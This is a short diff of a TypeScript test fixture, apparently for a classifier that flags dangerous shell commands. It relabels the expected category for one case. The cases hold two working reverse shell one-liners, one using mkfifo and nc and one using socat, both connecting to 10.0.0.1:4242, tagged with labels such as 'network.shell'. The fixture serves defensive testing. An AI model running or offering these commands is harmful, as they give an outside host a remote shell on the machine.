@@ -103,7 +103,7 @@ export const runningCases: readonly CommandCase[] = [
     'reverse shell lists',
     'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f',
     ['rm -f', 'delete.files'],
-    ['/bin/sh -i', 'code.piped'],
+    ['/bin/sh -i', 'fetch.run'],
     ['nc', 'network.shell'],
   ),
   dangerous('reverse shell lists', "socat exec:'bash -li',pty tcp:10.0.0.1:4242", [
